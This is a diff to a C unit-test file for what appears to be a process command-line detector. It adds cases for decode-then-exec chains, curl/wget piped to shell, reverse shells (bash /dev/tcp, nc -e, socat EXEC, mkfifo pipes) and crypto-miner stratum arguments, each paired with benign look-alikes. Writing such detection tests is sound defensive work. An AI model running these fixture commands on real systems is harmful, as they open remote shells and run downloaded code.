@@ -27,7 +27,7 @@ static void assert_cases(struct assessed *a, const char *key, const struct comma
 static void obfuscated_cmdline_is_a_decoder_and_a_long_text(void **state)
 {
     static const struct command_case cases[] = {
-        {"/usr/bin/bash",       "bash|-c|echo ZWNobyBoYXJtbGVzcyBlbm91Z2g= \174 base64 -d",      1},
+        {"/usr/bin/bash",       "bash|-c|echo ZWNobyBoYXJtbGVzcyBlbm91Z2g= \1 base64 -d",        1},
         {"/usr/bin/python3.11",
          "python3|-c|import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbQ=='))",     1},
         {"/usr/bin/bash",       "bash|-c|base64 -d < in > out",                                  0},
@@ -53,6 +53,77 @@ static void code_exec_cmdline_is_a_call(void **state)
     };
 
     ASSERT_CASES(*state, "code_exec_cmdline", cases);
+}
+
+static void decode_exec_wants_both(void **state)
+{
+    static const struct command_case cases[] = {
+        {"/usr/bin/bash",       "bash|-c|base64 -d x \1 sh",                  1},
+        {"/usr/bin/bash",       "bash|-c|base64 -d x \1 sudo /bin/bash -s",   1},
+        {"/usr/bin/bash",       "bash|-c|eval \"$(xxd -r p)\"",               1},
+        {"/usr/bin/python3.11", "python3|-c|exec(base64.b64decode('YQ=='))",  1},
+        {"/usr/bin/bash",       "bash|-c|base64 -d x > y",                    0},
+        {"/usr/bin/bash",       "bash|-c|base64 -d x \1 sha256sum",           0},
+        {"/usr/bin/bash",       "bash|-c|cat x \1 sh",                        0},
+        {"/usr/bin/python3.11", "python3|-c|print(base64.b64decode('YQ=='))", 0},
+        {"/usr/bin/grep",       "grep|-c|base64 -d x \1 sh",                  0},
+    };
+
+    ASSERT_CASES(*state, "decode_exec", cases);
+}
+
+static void pipe_exec_is_a_download_that_runs(void **state)
+{
+    static const struct command_case cases[] = {
+        {"/usr/bin/dash", "sh|-c|curl -fsSL https://x.example/i \1 sh",         1},
+        {"/usr/bin/dash", "sh|-c|wget -qO- http://x.example/i \1 sudo bash -s", 1},
+        {"/usr/bin/bash", "bash|-c|bash <(curl -s http://x.example/i)",         1},
+        {"/usr/bin/bash", "bash|-c|eval \"$(wget -qO- http://x.example/i)\"",   1},
+        {"/usr/bin/dash", "sh|-c|curl -s http://x.example/i \1 jq .",           0},
+        {"/usr/bin/dash", "sh|-c|curl -o i http://x.example/i.sh",              0},
+        {"/usr/bin/dash", "sh|/srv/curl.sh|\1 sh",                              0},
+        {"/usr/bin/bash", "bash|-c|version=$(curl -s http://x.example/v)",      0},
+        {"/usr/bin/curl", "curl|-fsSL|https://x.example/i",                     0},
+    };
+
+    ASSERT_CASES(*state, "pipe_exec", cases);
+}
+
+static void revshell_cmdline_wires_a_shell(void **state)
+{
+    static const struct command_case cases[] = {
+        {"/usr/bin/bash",       "bash|-c|bash -i >& /dev/tcp/10.0.0.9/443 0>&1",            1},
+        {"/usr/bin/dash",       "sh|-c|mkfifo f; cat f \1 sh -i \1 nc 10.0.0.9 443 >f",     1},
+        {"/usr/bin/nc",         "nc|10.0.0.9|443|-e|/bin/sh",                               1},
+        {"/usr/bin/ncat",       "ncat|-l|443|--sh-exec|bash -i",                            1},
+        {"/usr/bin/socat",      "socat|TCP:10.0.0.9:443|EXEC:'/bin/bash -li',pty",          1},
+        {"/usr/bin/python3.11",
+         "python3|-c|import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)",           1},
+        {"/usr/bin/bash",       "bash|-c|until exec 3<>/dev/tcp/db/5432; do sleep 1; done", 0},
+        {"/usr/bin/nc",         "nc|-zv|10.0.0.9|443",                                      0},
+        {"/usr/bin/nc",         "nc|-l|443|-e|/usr/bin/cat",                                0},
+        {"/usr/bin/socat",      "socat|TCP-LISTEN:80|EXEC:/usr/bin/date",                   0},
+        {"/usr/bin/python3.11", "python3|-c|import socket; socket.create_connection(a)",    0},
+        {"/usr/bin/dash",       "sh|-c|mkfifo /run/sync_fifo",                              0},
+        {"/usr/bin/grep",       "grep|-c|nc -e /bin/sh",                                    0},
+    };
+
+    ASSERT_CASES(*state, "revshell_cmdline", cases);
+}
+
+static void miner_cmdline_spares_who_reads_about_it(void **state)
+{
+    static const struct command_case cases[] = {
+        {"/opt/x/y",          "y|-o|stratum+tcp://pool.example:3333|-u|w", 1},
+        {"/opt/x/y",          "y|--url=stratum+ssl://pool.example:443",    1},
+        {"/opt/x/y",          "y|--donate-level=0",                        1},
+        {"/tmp/grep",         "grep|-r|stratum+tcp://x",                   1},
+        {"/usr/bin/grep",     "grep|-r|stratum+tcp://|/var/log",           0},
+        {"/usr/sbin/chronyd", "chronyd|stratum|10",                        0},
+        {"/opt/x/y",          "y|--donate|level",                          0},
+    };
+
+    ASSERT_CASES(*state, "miner_cmdline", cases);
 }
 
 static void name_argv_mismatch_spares_titles_links_and_scripts(void **state)
@@ -151,6 +222,10 @@ int main(void)
     const struct CMUnitTest tests[] = {
         CASE(obfuscated_cmdline_is_a_decoder_and_a_long_text),
         CASE(code_exec_cmdline_is_a_call),
+        CASE(decode_exec_wants_both),
+        CASE(pipe_exec_is_a_download_that_runs),
+        CASE(revshell_cmdline_wires_a_shell),
+        CASE(miner_cmdline_spares_who_reads_about_it),
         CASE(name_argv_mismatch_spares_titles_links_and_scripts),
         CASE(kthread_masq_is_about_names_of_the_kernel),
         CASE(kthread_masq_knows_the_real_ones),
